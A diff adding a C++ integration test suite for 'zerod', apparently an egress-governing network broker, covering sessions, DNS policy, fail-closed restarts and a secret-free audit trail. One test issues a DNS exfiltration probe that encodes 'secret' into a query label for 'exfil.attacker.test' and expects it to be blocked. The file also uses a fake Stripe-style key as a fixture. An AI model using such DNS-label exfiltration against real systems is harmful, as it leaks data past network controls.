@@ -1,0 +1,266 @@
+// zerod as a process in the lab: sessions over the control socket, governed
+// DNS from a real guest, policy updates under load, kill -9 and re-adoption,
+// and an audit trail that verifies and holds no secret.
+#include <gtest/gtest.h>
+#include <signal.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include <chrono>
+#include <filesystem>
+#include <fstream>
+#include <future>
+#include <sstream>
+#include <thread>
+
+#include "broker/audit_log.h"
+#include "broker/control_server.h"
+#include "broker/governed_lab.h"
+#include "integration/guest_commands.h"
+#include "integration/lab_datapath.h"
+#include "userspace/bpffs.h"
+#include "vmm/lab.h"
+
+namespace zn::test {
+namespace {
+
+namespace fs = std::filesystem;
+using json = nlohmann::json;
+using namespace std::chrono_literals;
+
+constexpr const char* kSecret = "sk_live_zerod_test_4f9a8b7c6d";
+
+std::string policy(const std::string& extra_allow = "") {
+  return R"({"policy":{"allow":[
+      {"host":"api.github.com","methods":["GET"],"paths":["/repos/**"]},
+      {"host":"api.stripe.com","identity":"cap:stripe"},
+      {"host":"*.npmjs.org"},)" +
+         extra_allow + R"(
+      {"host":"db.internal","port":5432,"proto":"tcp"}],
+    "deny":[{"host":"evil.example"}]},
+   "resources":{"stripe":{"accessToken":")" + kSecret + R"("}}})";
+}
+
+std::string slurp(const fs::path& p) {
+  std::ifstream in(p, std::ios::binary);
+  std::stringstream s;
+  s << in.rdbuf();
+  return s.str();
+}
+
+class ZerodTest : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    lab_ = std::make_unique<vmm::Lab>(vmm::Lab::up(unique_lab_prefix("zd")));
+    lab_->add_guest("g0");
+    dir_ = fs::temp_directory_path() / ("zerod-" + lab_->prefix());
+    fs::create_directories(dir_);
+    socket_ = (dir_ / "zerod.sock").string();
+    json config = {{"netns", lab_->host_netns()},
+                   {"pin_root", broker::lab_pin_root(lab_->prefix())},
+                   {"state_dir", (dir_ / "state").string()},
+                   {"control_socket", socket_},
+                   {"dns_static",
+                    {{"api.github.com", {"198.18.0.10"}},
+                     {"api.stripe.com", {"198.18.0.11"}},
+                     {"registry.npmjs.org", {"198.18.0.12", "2001:db8:18::12"}},
+                     {"db.internal", {"198.18.0.13"}},
+                     {"api.openai.com", {"198.18.0.10"}}}}};
+    std::ofstream(dir_ / "zerod.json") << config.dump();
+    start_zerod();
+  }
+  void TearDown() override {
+    stop_zerod(SIGTERM);
+    const std::string pins = broker::lab_pin_root(lab_->prefix());
+    lab_.reset();
+    try {
+      dp::remove_pin_root(pins);
+    } catch (...) {
+    }
+    fs::remove_all(dir_);
+  }
+
+  void start_zerod() {
+    pid_ = ::fork();
+    ASSERT_GE(pid_, 0);
+    if (pid_ == 0) {
+      const std::string log = (dir_ / "zerod.log").string();
+      FILE* out = std::fopen(log.c_str(), "a");
+      ::dup2(fileno(out), 1);
+      ::dup2(fileno(out), 2);
+      ::execl(ZN_ZEROD_BIN, "zerod", "--config", (dir_ / "zerod.json").c_str(), nullptr);
+      ::_exit(127);
+    }
+    for (int i = 0; i < 100; ++i) {
+      try {
+        if (broker::control_call(socket_, "status").value("ok", false)) return;
+      } catch (...) {
+      }
+      std::this_thread::sleep_for(50ms);
+    }
+    FAIL() << "zerod did not come up: " << slurp(dir_ / "zerod.log");
+  }
+  void stop_zerod(int sig) {
+    if (pid_ <= 0) return;
+    ::kill(pid_, sig);
+    int status;
+    ::waitpid(pid_, &status, 0);
+    pid_ = -1;
+  }
+  json call(const std::string& verb, const json& args = json::object()) {
+    return broker::control_call(socket_, verb, args);
+  }
+  CommandResult guest(const std::string& cmd) { return run_in_netns(lab_->guests()[0].netns, cmd); }
+  std::string dig(const std::string& name) {
+    return guest("dig @8.8.8.8 " + name + " +short +tries=1 +time=2").output;
+  }
+  void create_session() {
+    json r = call("session.create", {{"id", "user-1"}, {"policy", policy()}, {"device", "zn-tap0"}, {"slot", 0}});
+    ASSERT_TRUE(r["ok"]) << r.dump();
+  }
+
+  std::unique_ptr<vmm::Lab> lab_;
+  fs::path dir_;
+  std::string socket_;
+  pid_t pid_ = -1;
+};
+
+TEST_F(ZerodTest, CreatedSessionGetsGovernedDnsAndAnAuditTrail) {
+  create_session();
+  json r = call("session.show", {{"id", "user-1"}});
+  ASSERT_TRUE(r["ok"]);
+  EXPECT_EQ(r["result"]["network"]["address"], "198.19.0.2/24");
+  EXPECT_EQ(r["result"]["network"]["gateway"], "198.19.0.1");
+  EXPECT_EQ(r["result"]["policy"]["resources"], json::array({"stripe"}));
+  EXPECT_EQ(r.dump().find(kSecret), std::string::npos);
+
+  EXPECT_EQ(dig("api.github.com"), "198.18.0.10\n");
+  EXPECT_EQ(dig("registry.npmjs.org"), "198.18.0.12\n");
+  // Denied and unknown names: NXDOMAIN, and nothing leaves through labels.
+  EXPECT_NE(guest("dig @8.8.8.8 evil.example +tries=1 +time=2").output.find("NXDOMAIN"), std::string::npos);
+  EXPECT_NE(guest("dig @1.1.1.1 c2VjcmV0.exfil.attacker.test +tries=1 +time=2").output.find("NXDOMAIN"),
+            std::string::npos);
+  EXPECT_NE(guest("nc -z -w 1 198.18.0.10 22").exit_code, 0);
+  std::this_thread::sleep_for(1500ms);  // packet:deny is flushed once a second
+
+  stop_zerod(SIGTERM);
+  const std::string db = (dir_ / "state" / "audit.db").string();
+  auto v = broker::AuditLog::verify_file(db);
+  EXPECT_TRUE(v.ok) << v.reason;
+  broker::AuditLog log({db, {}, [](const std::string&) {}});
+  std::string events;
+  for (const auto& rec : log.query({}))
+    events += rec.event + " " + rec.sid + " " + rec.detail.dump() + "\n";
+  EXPECT_NE(events.find("session:create user-1"), std::string::npos) << events;
+  EXPECT_NE(events.find("dns:allow user-1 {\"answers\":[\"198.18.0.10\"],\"name\":\"api.github.com\""),
+            std::string::npos) << events;
+  EXPECT_NE(events.find("dns:deny user-1 {\"name\":\"evil.example\""), std::string::npos) << events;
+  EXPECT_NE(events.find("c2vjcmv0.exfil.attacker.test"), std::string::npos) << events;  // names are case-folded
+  EXPECT_NE(events.find("packet:deny user-1"), std::string::npos) << events;
+  // No secret anywhere: audit database files, state is 0600, log.
+  for (const auto& e : fs::directory_iterator(dir_ / "state"))
+    if (e.path().filename().string().rfind("audit", 0) == 0) {
+      EXPECT_EQ(slurp(e.path()).find(kSecret), std::string::npos) << e.path();
+    }
+  EXPECT_EQ(slurp(dir_ / "zerod.log").find(kSecret), std::string::npos);
+  EXPECT_EQ(fs::status(dir_ / "state" / "sessions.json").permissions() & fs::perms::all,
+            fs::perms::owner_read | fs::perms::owner_write);
+}
+
+TEST_F(ZerodTest, BadRequestsAreRefusedAndChangeNothing) {
+  create_session();
+  json bad = call("session.update",
+                  {{"id", "user-1"}, {"policy", R"({"policy":{"allow":[{"host":"*.com"}]}})"}});
+  EXPECT_FALSE(bad["ok"]);
+  EXPECT_EQ(bad["error"]["path"], "$.policy.allow[0].host");
+  EXPECT_EQ(call("session.show", {{"id", "user-1"}})["result"]["policy_version"], 1);
+  EXPECT_FALSE(call("session.create", {{"id", "user-1"}, {"policy", policy()}})["ok"]);
+  EXPECT_FALSE(call("session.create", {{"id", "Bad Id"}, {"policy", policy()}})["ok"]);
+  EXPECT_FALSE(call("session.delete", {{"id", "nobody"}})["ok"]);
+  EXPECT_FALSE(call("no.such.verb")["ok"]);
+  EXPECT_EQ(dig("api.github.com"), "198.18.0.10\n");
+}
+
+TEST_F(ZerodTest, PolicyUpdateAppliesAtOnceWhileTheGuestLoops) {
+  create_session();
+  // The guest resolves in a loop while the policy changes under it.
+  auto loop = std::async(std::launch::async, [this] {
+    return guest("for i in $(seq 1 30); do dig @8.8.8.8 api.github.com +short +tries=1 +time=1; "
+                 "dig @8.8.8.8 api.openai.com +short +tries=1 +time=1 | sed 's/^/openai:/'; sleep 0.05; done");
+  });
+  std::this_thread::sleep_for(600ms);
+  json r = call("session.update", {{"id", "user-1"}, {"policy", policy(R"({"host":"api.openai.com"},)")}});
+  ASSERT_TRUE(r["ok"]) << r.dump();
+  EXPECT_EQ(r["result"]["policy_version"], 2);
+  EXPECT_EQ(dig("api.openai.com"), "198.18.0.10\n");  // at once
+  const std::string out = loop.get().output;
+  // The name allowed in both versions never failed.
+  size_t github = 0;
+  for (size_t p = out.find("198.18.0.10"); p != std::string::npos; p = out.find("198.18.0.10", p + 1)) ++github;
+  size_t openai = 0;
+  for (size_t p = out.find("openai:198.18.0.10"); p != std::string::npos; p = out.find("openai:198.18.0.10", p + 1)) ++openai;
+  EXPECT_EQ(github - openai, 30u) << out;
+  EXPECT_GT(openai, 0u) << out;
+  EXPECT_LT(openai, 30u) << out;
+}
+
+TEST_F(ZerodTest, KilledZerodFailsClosedAndARestartReadoptsTheSession) {
+  create_session();
+  EXPECT_EQ(dig("api.github.com"), "198.18.0.10\n");
+  stop_zerod(SIGKILL);
+  // Nothing gets out: DNS unanswered, steered TCP finds no listener, the rest is dropped.
+  EXPECT_EQ(dig("api.github.com").find("198.18.0.10"), std::string::npos);
+  EXPECT_NE(guest("curl -s -m 2 http://198.18.0.10/").exit_code, 0);
+  EXPECT_NE(guest("nc -z -w 1 198.18.0.10 22").exit_code, 0);
+  EXPECT_NE(guest("ping -c 1 -W 1 198.18.0.10").exit_code, 0);
+  start_zerod();
+  json list = call("session.list");
+  ASSERT_TRUE(list["ok"]);
+  ASSERT_EQ(list["result"].size(), 1u);
+  EXPECT_EQ(list["result"][0]["id"], "user-1");
+  EXPECT_EQ(list["result"][0]["device"], "zn-tap0");
+  EXPECT_EQ(dig("api.github.com"), "198.18.0.10\n");
+  json del = call("session.delete", {{"id", "user-1"}});
+  EXPECT_TRUE(del["ok"]);
+  // No session: the TAP denies everything, DNS included.
+  EXPECT_EQ(dig("api.github.com").find("198.18.0.10"), std::string::npos);
+}
+
+TEST_F(ZerodTest, ZnctlSpeaksJsonIncludingErrors) {
+  create_session();
+  const std::string znctl = std::string(ZN_ZNCTL_BIN) + " -j --socket " + socket_ + " --state-dir " +
+                            (dir_ / "state").string() + " --pin-root " + broker::lab_pin_root(lab_->prefix());
+  auto run = [](const std::string& cmd) {
+    CommandResult r;
+    FILE* p = ::popen((cmd + " 2>/dev/null").c_str(), "r");
+    char buf[4096];
+    size_t n;
+    while ((n = std::fread(buf, 1, sizeof buf, p)) > 0) r.output.append(buf, n);
+    int status = ::pclose(p);
+    r.exit_code = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
+    return r;
+  };
+  auto list = run(znctl + " session list");
+  EXPECT_EQ(list.exit_code, 0);
+  EXPECT_EQ(json::parse(list.output)[0]["id"], "user-1");
+  auto missing = run(znctl + " session show nobody");
+  EXPECT_EQ(missing.exit_code, 1);
+  EXPECT_EQ(json::parse(missing.output)["error"], "no session 'nobody'");
+  std::ofstream(dir_ / "bad.json") << R"({"policy":{"allow":[{"host":"a.example","methods":["FETCH"]}]}})";
+  auto check = run(znctl + " policy check " + (dir_ / "bad.json").string());
+  EXPECT_EQ(check.exit_code, 1);
+  EXPECT_EQ(json::parse(check.output)["path"], "$.policy.allow[0].methods[0]");
+  auto usage = run(znctl + " session frobnicate");
+  EXPECT_EQ(usage.exit_code, 2);
+  EXPECT_TRUE(json::parse(usage.output).contains("error"));
+  auto progs = run(znctl + " prog show");
+  EXPECT_EQ(json::parse(progs.output).size(), 2u);
+  auto stats = run(znctl + " stats user-1");
+  EXPECT_TRUE(json::parse(stats.output).contains("user-1"));
+  auto verify = run(znctl + " audit verify");
+  EXPECT_EQ(verify.exit_code, 0);
+  EXPECT_TRUE(json::parse(verify.output)["ok"]);
+}
+
+}  // namespace
+}  // namespace zn::test
